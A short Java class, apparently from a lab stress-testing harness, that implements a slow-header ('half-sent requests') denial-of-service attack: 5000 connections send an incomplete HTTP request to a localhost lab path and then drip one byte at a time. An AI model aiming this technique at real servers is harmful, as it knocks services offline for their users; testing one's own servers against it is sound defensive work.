package descentlab.siege;

/** Thousands of connections that send half a request, and then a byte every few seconds. */
final class HalfSent implements Attack {

    private static final int CONNECTIONS = 5000;
    private static final int PER_SECOND = 1500;

    @Override
    public String name() {
        return "half-sent requests";
    }

    @Override
    public void wage(Front front) throws Exception {
        byte[] half = Raw.bytes("GET /lab/surface HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
        byte[] drip = Raw.bytes("a");
        new Crowd(front, "half-sent requests", CONNECTIONS, PER_SECOND, new Crowd.Way() {
            @Override
            public byte[] greeting(int number) {
                return half;
            }

            @Override
            public byte[] drip(int number) {
                return drip;
            }
        }).hold();
    }
}
